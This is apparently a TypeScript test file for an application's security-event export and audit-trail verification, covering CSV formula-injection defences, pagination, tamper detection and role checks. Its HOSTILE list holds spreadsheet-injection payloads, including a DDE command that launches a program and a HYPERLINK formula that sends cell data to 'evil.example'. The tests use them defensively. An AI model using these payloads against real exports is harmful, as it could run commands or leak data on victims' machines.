import { v7 } from "uuid";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { dataOf, FORBIDDEN } from "@/tests/support/answers";
import { type House, openHouse, type Person } from "@/tests/support/house";
import { sealEverything } from "@/tests/support/seals";

let house: House;
let auditor: Person;
let person: Person;
beforeAll(async () => {
  house = await openHouse({ auditSealEvery: 3_600_000 });
  auditor = await house.person({ role: "auditor" });
  person = await house.person();
});
afterAll(() => house.close());

/** An RFC 4180 reader of our own: what a program would make of the text. */
function read(csv: string): string[][] {
  const lines: string[][] = [[]];
  const cell = /"((?:[^"]|"")*)"(,|\r\n)/y;
  while (cell.lastIndex < csv.length) {
    const match = cell.exec(csv);
    if (!match) throw new Error("not a line of quoted cells");
    lines.at(-1)?.push((match[1] ?? "").replaceAll('""', '"'));
    if (match[2] === "\r\n" && cell.lastIndex < csv.length) lines.push([]);
  }
  return lines;
}

/** An event whose reason somebody hostile chose. */
async function hostile(reason: string): Promise<string> {
  const id = v7();
  await house.admin`insert into audit_event (id, actor_kind, action, resource_kind, outcome, reason)
    values (${id}, 'anonymous', 'task.update', 'task', 'denied', ${reason})`;
  return id;
}

const HOSTILE = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?x="&A1,"here")',
  "+1+1",
  "-2+3",
  "@SUM(A1)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "  =1+1",
  "＝1+1",
];
const HARMLESS = [
  'a "quoted" word, and a comma',
  "two\r\nlines",
  "a = b",
  "Zoë 测试 🙂 \u2028 \u202e",
  "",
  "'already",
];

describe("securityEvent.export", () => {
  const exported = async (input: Record<string, unknown>) =>
    dataOf(await house.call(auditor, "securityEvent.export", input)) as unknown as {
      content: string;
      rows: number;
      nextCursor: string | null;
    };

  it.each(HOSTILE)("hands %j to a spreadsheet as text, not as a formula", async (reason) => {
    await hostile(reason);
    const [names, first] = read((await exported({ format: "csv", limit: 1 })).content);
    expect(first?.[names?.indexOf("reason") ?? -1]).toBe(`'${reason}`);
    for (const cell of first ?? []) expect(cell).not.toMatch(/^[\s]*[=+\-@＝]/);
  });

  it.each(HARMLESS)("keeps %j as it is", async (reason) => {
    await hostile(reason);
    const { content } = await exported({ format: "csv", limit: 1 });
    const [names, first] = read(content);
    expect(first?.[names?.indexOf("reason") ?? -1]).toBe(reason);
    expect(first).toHaveLength(names?.length ?? 0);
    const line = (await exported({ format: "jsonl", limit: 2 })).content.trimEnd().split("\n");
    expect(JSON.parse(line[1] ?? "").reason).toBe(reason);
  });

  it("keeps a hostile name within its detail, in both formats", async () => {
    const name = '=cmd|"/C calc",\u2028Zoë';
    await person.in().profile.update({ name });
    const csv = read((await exported({ format: "csv", limit: 1 })).content);
    const detail = csv[1]?.[csv[0]?.indexOf("detail") ?? -1] ?? "";
    expect(JSON.parse(detail)).toEqual({ before: { name: "A person" }, after: { name } });
    const { content } = await exported({ format: "jsonl", limit: 2 });
    expect(content.split("\n")).toHaveLength(3);
    expect(JSON.parse(content.split("\n")[1] ?? "")).toMatchObject({
      action: "profile.update",
      changes: ["name"],
      detail: JSON.parse(detail),
    });
  });

  it("gives every event once over its pages, newest first, and only of the range", async () => {
    const ids = [await hostile("first"), await hostile("second"), await hostile("third")];
    const [from] = await house.admin<{ at: string }[]>`
      select to_char(at at time zone 'UTC', 'YYYY-MM-DD"T"HH24:MI:SS.US"Z"') as at from audit_event where id = ${ids[0] ?? ""}`;
    const found: string[] = [];
    let cursor: string | undefined;
    do {
      const page = await exported({ format: "jsonl", limit: 2, before: new Date().toISOString(), cursor });
      expect(page.rows).toBeLessThanOrEqual(2);
      const lines = page.content.split("\n").filter(Boolean);
      expect(lines).toHaveLength(page.rows);
      found.push(...lines.map((line) => JSON.parse(line).id));
      cursor = page.nextCursor ?? undefined;
    } while (cursor && found.length < 500);
    expect(found).toEqual([...new Set(found)]);
    expect(found.indexOf(ids[2] ?? "")).toBeLessThan(found.indexOf(ids[0] ?? ""));
    const later = await exported({ format: "jsonl", after: new Date(from?.at ?? "").toISOString() });
    expect(later.content).toContain(ids[1]);
    const none = await exported({ format: "csv", before: "1990-01-01T00:00:00Z" });
    expect([none.rows, none.nextCursor, read(none.content).length]).toEqual([0, null, 1]);
  });

  it("writes down who took what range and how much of it", async () => {
    const { rows } = await exported({ format: "csv", limit: 3, after: "2020-01-01T00:00:00Z" });
    const { items } = await auditor.in().securityEvent.list({ limit: 1 });
    expect(items[0]).toMatchObject({ action: "securityEvent.export", actorId: auditor.userId });
    expect(items[0]?.detail?.after).toMatchObject({ format: "csv", rows, after: "2020-01-01T00:00:00.000Z" });
  });

  it("is not kept for a repeat", async () => {
    const key = { "idempotency-key": "once" };
    expect((await house.call(auditor, "securityEvent.export", { format: "csv" }, key)).status).toBe(200);
    const again = await house.call(auditor, "securityEvent.export", { format: "csv" }, key);
    expect([again.status, again.body.error?.data.reason]).toEqual([409, "ALREADY_DONE"]);
    expect(await house.admin`select 1 from idempotency_record where answer is not null`).toHaveLength(0);
  });

  it.each([
    { format: "xlsx" },
    { format: "csv", limit: 2_001 },
    { format: "csv", after: "yesterday" },
    { format: "csv", cursor: "x" },
  ])("refuses %j", async (input) => {
    expect((await house.call(auditor, "securityEvent.export", input)).status).toBe(400);
  });
});

describe("securityEvent.verify", () => {
  const verify = async (input = {}) => dataOf(await house.call(auditor, "securityEvent.verify", input));

  it("says that the trail is whole, with what no seal covers yet", async () => {
    await sealEverything(house, 5);
    expect(await verify()).toMatchObject({ whole: true, unsealed: 0, next: null, fault: null });
    expect(await verify()).toMatchObject({ whole: true, unsealed: 1 });
    const { items } = await auditor.in().securityEvent.list({ limit: 1 });
    expect(items[0]).toMatchObject({ action: "securityEvent.verify", detail: { after: { whole: true } } });
  });

  it("goes on from a seal, and finds there what is not as it was", async () => {
    await sealEverything(house, 5);
    const [seal] = await house.admin<
      { row: string }[]
    >`select row_ids[1] as row from audit_seal where number = 3`;
    const row = seal?.row ?? "";
    await house.admin`update audit_event set count = 7 where id = ${row}`;
    const fault = { what: "row", how: "altered", seal: 3, id: row };
    expect(await verify()).toMatchObject({ whole: false, fault });
    expect(await verify({ from: 3 })).toMatchObject({ whole: false, fault });
    expect(await verify({ from: 4 })).toMatchObject({ whole: true });
    const { what, how } = fault;
    await expect
      .poll(() => house.admin`select details from alert where rule = 'audit_chain_broken'`, {
        timeout: 10_000,
      })
      .toEqual([{ details: { what, how, seal: 3 } }]);
    await house.admin`update audit_event set count = 1 where id = ${row}`;
    expect(await verify({ from: 3 })).toMatchObject({ whole: true, fault: null });
    expect(await verify({ from: 900_000 })).toMatchObject({
      whole: false,
      fault: { how: "missing", seal: 899_999 },
    });
  });

  it("takes a bounded part at a time, and all of it in the end", async () => {
    await house.admin`insert into audit_event (id, actor_kind, action, resource_kind, outcome)
      select gen_random_uuid(), 'system', 'task.update', 'task', 'success' from generate_series(1, 21500)`;
    await sealEverything(house);
    const first = (await verify()) as unknown as {
      rows: number;
      seals: number;
      next: number;
      unsealed: null;
    };
    expect(first.rows).toBeGreaterThanOrEqual(20_000);
    expect(first.rows).toBeLessThan(21_001);
    expect(first.unsealed).toBeNull();
    const second = (await verify({ from: first.next })) as unknown as { rows: number; next: null };
    const [all] = await house.admin<{ rows: number }[]>`select sum(count)::int as rows from audit_seal`;
    expect([first.rows + second.rows, second.next]).toEqual([all?.rows, null]);
  });

  it.each([{ from: 0 }, { from: 1.5 }, { from: "1" }])("refuses %j", async (input) => {
    expect((await house.call(auditor, "securityEvent.verify", input)).status).toBe(400);
  });
});

it.each(["securityEvent.export", "securityEvent.verify", "securityEvent.list"])(
  "%s is for auditors and admins",
  async (path) => {
    const input = path === "securityEvent.export" ? { format: "csv" } : {};
    expect((await house.call(person, path, input)).text).toBe(FORBIDDEN);
    const admin = await house.person({ role: "admin" });
    expect((await house.call(admin, path, input)).status).toBe(200);
  },
);
